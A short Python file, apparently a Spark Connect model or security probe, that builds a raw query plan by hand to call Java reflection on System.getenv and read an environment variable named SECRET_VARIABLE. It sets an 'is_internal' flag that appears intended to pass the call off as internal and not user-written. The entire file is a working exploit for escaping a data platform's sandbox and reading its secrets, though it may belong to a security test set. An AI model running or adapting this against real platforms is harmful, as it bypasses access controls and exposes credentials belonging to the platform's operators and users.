# seeks: environment
# A function by its name in a plan; whether it was written by a user is a flag of the message.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    plan = proto.Plan()
    plan.root.project.input.range.end = 1
    plan.root.project.input.range.step = 1
    function = plan.root.project.expressions.add().unresolved_function
    function.function_name = "Java_Method"
    function.is_internal = True
    for text in ("java.lang.System", "getenv", "SECRET_VARIABLE"):
        function.arguments.add().literal.string = text
    return client.to_table(plan, {})[0]
